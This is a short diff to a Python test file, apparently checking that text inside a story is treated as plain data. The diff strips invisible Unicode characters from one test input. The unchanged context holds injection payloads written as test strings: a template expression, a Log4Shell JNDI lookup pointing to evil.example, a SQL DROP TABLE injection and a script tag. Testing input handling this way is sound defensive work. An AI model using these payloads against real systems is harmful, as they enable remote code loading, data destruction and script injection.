@@ -112,7 +112,7 @@ def test_cancelling_ends_the_reading_of_a_file(
         "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} '; DROP TABLE stories; --",
         "<script>alert(1)</script> <!-- --> &amp; \\u0041 %00 %s {0}",
         '{"refused": "it", "reason": "", "facts": {}}',
-        "cv:ask:1 ``` ** __ ~~ > # - \u202e\u200b\u200d\ufeff",
+        "cv:ask:1 ``` ** __ ~~ > # -",
     ],
 )
 def test_a_text_in_a_story_is_data(loader: Loader, words: str) -> None:
